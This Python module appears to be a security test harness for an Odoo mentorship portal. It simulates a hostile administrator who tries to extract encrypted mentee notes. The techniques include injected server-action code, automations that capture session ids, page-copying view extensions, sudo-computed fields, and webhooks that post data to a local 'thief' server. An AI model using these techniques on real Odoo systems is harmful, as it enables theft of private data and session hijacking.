"""Puts the thieves of an administrator into a database, and looks at their loot."""

import contextlib
import re
import threading
from html import escape
from http.server import BaseHTTPRequestHandler, HTTPServer

import requests

from . import thieves
from .intruder import take_all
from .rpc import Client, RpcError

ROOM_VIEWS = (
    ("nob_mentorship.portal_pairing", "//*"),
    ("portal.frontend_layout", "//*"),
)

WRITTEN = ("mentorship.note", "mentorship.pairing", "mentorship.pairing.member")
"""The models that are written to when the mentee writes a text."""


class Burglary:
    """The ways in which an administrator tries to reach the texts of a room.

    :param sweep: `Sweep`
    :param probes: `Probes`
    :param room: `Room`
    :param core: id of the partner with core's own string
    """

    def __init__(self, sweep, probes, room, core):
        self.sweep, self.probes, self.room, self.core = sweep, probes, room, core
        self.stage = room.stage
        self.admin = room.stage.server.client()
        self.models = [name for name in probes.models if name.startswith("mentorship.")]
        self.mentee = int(self._user("mentee"))
        self._create(
            "ir.ui.view",
            name="sweep.reach",
            key="sweep.reach",
            type="qweb",
            arch=thieves.REACH_VIEW,
        )

    def _user(self, name):
        login = self.stage.login(name)
        query = f"SELECT id FROM res_users WHERE login = '{login}'"
        return self.probes.query(query)[0][0]

    def _create(self, model, **values):
        return self.admin.call(model, "create", [values])

    def _model(self, name):
        query = f"SELECT id FROM ir_model WHERE model = '{name}'"
        return int(self.probes.query(query)[0][0])

    def loot(self, name):
        """Return the id of a new contact in which a thief stores the findings."""
        return self._create("res.partner", name=f"Buit: {name}")

    def found(self, loot):
        """Return the thief's findings."""
        query = f"SELECT comment FROM res_partner WHERE id = {loot}"
        return "\n".join("\t".join(row) for row in self.probes.query(query))

    def code(self, code, loot, **values):
        """Return the code of a thief, ready to be run."""
        values = {
            "loot": loot,
            "core": self.core,
            "models": repr(self.models),
            "mentee": self.mentee,
            "record": 1,
            **values,
        }
        return thieves.PRELUDE.format(**values) + code.format(**values)

    def action(self, name, code, model="res.partner"):
        """Create a server action; return its id."""
        return self._create(
            "ir.actions.server",
            name=f"Dief: {name}",
            model_id=self._model(model),
            state="code",
            code=code,
        )

    def run(self, name, code, surface, client=None, **values):
        """Run a thief as the administrator and look at the loot."""
        loot = self.loot(name)
        action = self.action(name, self.code(code, loot, **values))
        # a thief may break the request they are in: the answer is then not JSON
        with contextlib.suppress(RpcError, requests.JSONDecodeError):
            (client or self.admin).call("ir.actions.server", "run", [[action]])
        return self.sweep.look(surface, self.found(loot), name)

    def server_actions(self):
        """Run server actions against all their possible targets."""
        for name, code in thieves.IN_ADMIN_REQUEST.items():
            client = self.stage.server.client()
            self.run(name, code, f"server action: {name}", client)

    def routes(self):
        """Return the paths of all routes, as the server knows them."""
        loot = self.loot("routes")
        action = self.action("routes", self.code(thieves.ROUTES, loot))
        self.admin.call("ir.actions.server", "run", [[action]])
        return self.found(loot).split()

    def api_keys(self, personas):
        """Give each persona a key for JSON-2."""
        users = [persona.client.uid for persona in personas if persona.client.uid]
        loot = self.loot("keys")
        code = self.code(thieves.API_KEYS, loot, users=users)
        self.admin.call("ir.actions.server", "run", [[self.action("keys", code)]])
        keys = dict(word.split("=") for word in self.found(loot).split())
        for persona in personas:
            persona.key = keys.get(str(persona.client.uid), "")

    def methods(self, calls):
        """Call every one-underscore method of our models.

        :param calls: lines of code, one a call
        """
        surface = "server action: every _method"
        for number in range(0, len(calls), 50):
            some = calls[number : number + 50]
            lines = "\n".join(f"call(lambda: {line})" for line in some)
            self.run("every _method", thieves.UNDERSCORE, surface, lines=lines)
            self.sweep.surfaces[surface][0] += len(some) - 1

    def automations(self, trigger):
        """Have automations run in a member's own request.

        :param trigger: function that has members write and read something
        """
        for name, code in thieves.IN_OWN_REQUEST.items():
            loot = self.loot(name)
            rules = self._automations(name, self.code(code, loot))
            try:
                trigger()
            finally:
                self.admin.call("base.automation", "unlink", [rules])
            found = self.found(loot)
            self.sweep.look(f"automation: {name}", found, name)
            if session := re.search(r"sid=([\w-]+)=", found):
                self._follow(session[1])

    def _follow(self, session):
        """Read all responses to a stolen session."""
        client = Client(self.stage.server.url, self.stage.server.db)
        client.session.cookies.set("session_id", session)
        for path in ("/my/mentorship", self.room.path):
            content = client.get(path).content
            self.sweep.look("a stolen session, elsewhere", content, path)
        found = take_all(client, int(self.room.pairing))
        self.sweep.look("a stolen session, elsewhere", found, "the sealed page")

    def _automations(self, name, code):
        """Create one for each model that the mentee writes; return their ids."""
        values = [
            {
                "name": f"Dief: {name}",
                "model_id": self._model(model),
                "trigger": "on_create_or_write",
                "action_server_ids": [(6, 0, [self.action(name, code, model)])],
            }
            for model in WRITTEN
        ]
        # one after the other, each would have the server set up its models again
        return self.admin.call("base.automation", "create", [values])

    def views(self, visit):
        """Change the pages that members load, so that they pass on what they show.

        :param visit: function that has them load and send pages
        """
        expressions = {
            **{
                name: thieves.WRITE.replace("{what}", f"({what})")
                for name, what in thieves.ON_PAGE.items()
            },
            "the same, later": thieves.ON_PAGE_LATER,
        }
        for name, expression in expressions.items():
            for key, path in ROOM_VIEWS:
                loot = self.loot(name)
                known = {"loot": loot, "core": self.core}
                view = self._view(key, path, expression.format(**known))
                if not view:
                    continue
                try:
                    visit()
                finally:
                    self.admin.call("ir.ui.view", "unlink", [[view]])
                detail = f"{name} by {key}"
                self.sweep.look(f"view: {name}", self.found(loot), detail)

    def _view(self, key, path, expression):
        module, name = key.split(".")
        arch = (
            f'<data><xpath expr="({path})[1]" position="inside">'
            f'<t t-set="stolen" t-value="{escape(expression)}"/></xpath></data>'
        )
        return self._create(
            "ir.ui.view",
            name=f"Dief {name}",
            type="qweb",
            mode="extension",
            inherit_id=self.stage.world.ref(f"{module}.{name}"),
            arch=arch,
        )

    def fields(self):
        """Add new fields, related and computed, and read them."""
        self._field("mentorship.pairing", "x_a", "text", "goal_ids.ciphertext")
        self._field("mentorship.pairing", "x_b", "text", "note_ids.ciphertext")
        self._field("mentorship.consent", "x_c", "text", "purpose")
        code = "for r in self: r['x_d'] = r.sudo().note_ids.mapped('ciphertext')"
        self._field("mentorship.pairing", "x_d", "text", compute=code)
        code = "for r in self: r['x_e'] = str(r.sudo().note_ids.read())"
        self._field("mentorship.pairing", "x_e", "text", compute=code)
        self._field("res.users", "x_f", "html", "partner_id.comment")

    def _field(self, model, name, kind, related=None, compute=None):
        surface = f"custom field: {'related' if related else 'computed'}"
        values = {"related": related} if related else {"compute": compute}
        try:
            self._create(
                "ir.model.fields",
                name=name,
                model_id=self._model(model),
                field_description=name,
                ttype=kind,
                state="manual",
                store=False,
                **values,
            )
            rows = self.admin.call(model, "search_read", [[], [name]])
        except RpcError as error:
            rows = error
        self.sweep.look(surface, repr(rows), f"{model}.{name}")
        loot = self.loot(name)
        code = f"keep(env['{model}'].sudo().search([]).read(['{name}']))"
        action = self.action(name, self.code(code, loot))
        with contextlib.suppress(RpcError):
            self.admin.call("ir.actions.server", "run", [[action]])
        self.sweep.look(surface, self.found(loot), f"{model}.{name} by sudo")

    def webhooks(self, records):
        """Have all fields of records sent to a server of the thief's.

        :param records: {model: id}
        """
        with Receiver() as receiver:
            for model, record in records.items():
                stored = "name" if model != "res.partner" else "comment"
                query = (
                    "SELECT id FROM ir_model_fields"
                    f" WHERE model = '{model}' AND (store OR name = 'purpose')"
                )
                if model == "res.partner":
                    query += f" AND name IN ('{stored}', 'name')"
                wanted = [int(row[0]) for row in self.probes.query(query)]
                with contextlib.suppress(RpcError):
                    self._webhook(model, record, wanted, receiver.url)
                body = b"\n".join(receiver.bodies)
                receiver.bodies.clear()
                self.sweep.look("webhook", body, f"{model} {record}")

    def _webhook(self, model, record, wanted, url):
        action = self._create(
            "ir.actions.server",
            name=f"Dief {model}",
            model_id=self._model(model),
            state="webhook",
            webhook_url=url,
            webhook_field_ids=[(6, 0, wanted)],
        )
        where = f"active_model='{model}', active_id={record}, active_ids=[{record}]"
        # by a server action, with rights that our own models give to no one
        code = f"env['ir.actions.server'].browse({action}).sudo().with_context({where})"
        code += "._run_action_webhook()"
        runner = self.action("webhook", self.code(code, self.loot("webhook")))
        self.admin.call("ir.actions.server", "run", [[runner]])


class Receiver:
    """A thief's web server, which keeps what is sent to it."""

    def __enter__(self):
        bodies = self.bodies = []

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                size = int(self.headers.get("Content-Length", 0))
                bodies.append(self.rfile.read(size))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_args):
                """Say nothing."""

        self._server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}/"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_error):
        self._server.shutdown()
        self._server.server_close()
